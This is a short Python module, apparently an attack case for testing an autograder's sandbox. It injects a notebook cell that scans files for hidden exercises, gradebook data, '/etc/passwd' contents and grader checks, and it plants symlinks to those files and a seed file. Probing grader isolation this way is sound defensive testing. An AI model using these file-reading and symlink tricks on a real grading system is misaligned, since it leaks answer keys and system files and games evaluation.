"""Brings links to the hidden cases, the gradebook and system files beside its notebook, and reads them while graded."""

from attacks import code, fill, write

EARNS = {"sizes"}
LINKS = {
    "reference": "../../../source/week1_toy/reference", "hidden": "../../../hidden", "book.db": "../../../gradebook.db",
    "data.csv": "../../../hidden/week1_toy/1_toy.json", "system": "/etc/passwd", "loop": "loop",
    "checks.py": "../../../source/week1_toy/mistakes.py", "seed.txt": "../../../hidden/week1_toy/seed",
}  # fmt: skip
READ = """
import glob
import os

for path in glob.glob("**/*", recursive=True):
    if os.path.isfile(path):
        with open(path, "rb") as file:
            content = file.read(4096)
        if any(word in content for word in (b'"exercises"', b"SQLite", b"root:", b"MISTAKES =")):
            print("LEAK" + f"ED: {path}: {content[:200]}")
    if path == "seed.txt":
        print("LEAK" + "ED: the seed")
"""


def submit(folder, released, solved):
    document = fill(released, {"sizes": solved["sizes"]})
    document["cells"].insert(0, code(READ))
    write(folder, document)
    for name, target in LINKS.items():
        (folder / name).symlink_to(target)
